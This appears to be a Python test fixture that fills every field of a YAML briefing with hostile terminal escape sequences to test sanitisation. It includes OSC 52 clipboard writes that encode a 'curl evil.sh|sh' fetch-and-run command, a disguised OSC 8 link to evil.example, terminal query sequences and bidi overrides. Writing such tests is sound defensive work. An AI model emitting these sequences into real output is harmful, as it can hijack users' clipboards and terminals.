"""A briefing with every terminal-control payload of threats.md in every text field."""

from __future__ import annotations

PAYLOADS = [
    "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x1b\\",  # 1 OSC 52, ST
    "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",  # 2 OSC 52, BEL
    "\x1b]0;PWNED\x07\x1b[21t\x1b[20t",  # 3 title set and report
    "\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\",  # 4 OSC 8
    "\x1b[2J\x1b[H\x1b[5A\x1b[?1049l\x1b[?25h\x1bc",  # 5 CSI moves, RIS
    "\x9b31m\x9d0;x\x9c\x90q\x9c\x85",  # 6 C1 controls
    '\x1bP$q"p\x1b\\\x1b[c\x1b[6n\x1b[>0q\x05',  # 7 queries, ENQ
    "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\\x1b_Gf=100;AAAA\x1b\\\x1b]1337;x\x07",  # 8
    "a\x07b\x08c\rd\x0be\x0cf\x00g\x7fh\x0ei\x0fj",  # 9 bare controls
    "\u202eevil\u202c \u2066iso\u2069 \u200e\u200f",  # 11 bidi
    "Z" + "\u0301" * 300,  # 12 Zalgo
    # 13 wide and zero-width: a ZWJ family, VS16, CJK, a flag, a tab
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u26c5\ufe0f \u4e2d\u6587 "
    "\U0001f1fa\U0001f1f8\ttab",
]


PAYLOAD = " ".join(PAYLOADS)
NAME, ALIAS = "Hostile Hank", "Hank the Tank"


def quoted(value: str) -> str:
    """A YAML double-quoted scalar: escapes for what YAML may not hold raw."""
    out = []
    for char in value:
        code = ord(char)
        if char in '"\\':
            out.append("\\" + char)
        elif code < 0x20 or 0x7F <= code <= 0x9F or 0xD800 <= code <= 0xDFFF:
            out.append(f"\\u{code:04x}")
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


def text(label: str) -> str:
    return quoted(f"{label} {PAYLOAD} {NAME} {ALIAS}")


def hostile_briefing() -> str:
    """A valid briefing with the payload in every text field of FORMAT.md."""
    t = text
    return f"""briefing: 1
id: terminal-controls
title: {t("Title")}
summary: {t("Summary")}
date: 2025-06-01
topics: [{t("Topic")}]
source:
  outlet: {t("Outlet")}
  headline: {t("Headline")}
  authors: [{t("Author")}]
  dateline: {t("Dateline")}
  published: 2025-06-01
  url: {t("https://example.com/")}
  note: {t("Note")}
sections:
  - id: one
    title: {t("Section")}
    summary: {t("Section summary")}
    body:
      - {t("Paragraph")}
      - quote: {t("Quote")}
        by: {t("Speaker")}
      - quote: {t("Quote by entry")}
        by: hank
      - points: [{t("Point")}]
  - id: two
    title: {t("Second")}
    collapsed: true
    body: [{t("Collapsed paragraph")}]
glossary:
  - id: hank
    name: {quoted(NAME)}
    kind: person
    aliases: [{quoted(ALIAS)}, {t("Alias")}]
    role: {t("Role")}
    about: {t("About")}
    related: [other]
  - id: other
    name: {quoted("Other " + PAYLOAD)}
    kind: place
    role: {t("Other role")}
timeline:
  - date: 2025-06-01
    event: {t("Event")}
    section: one
"""
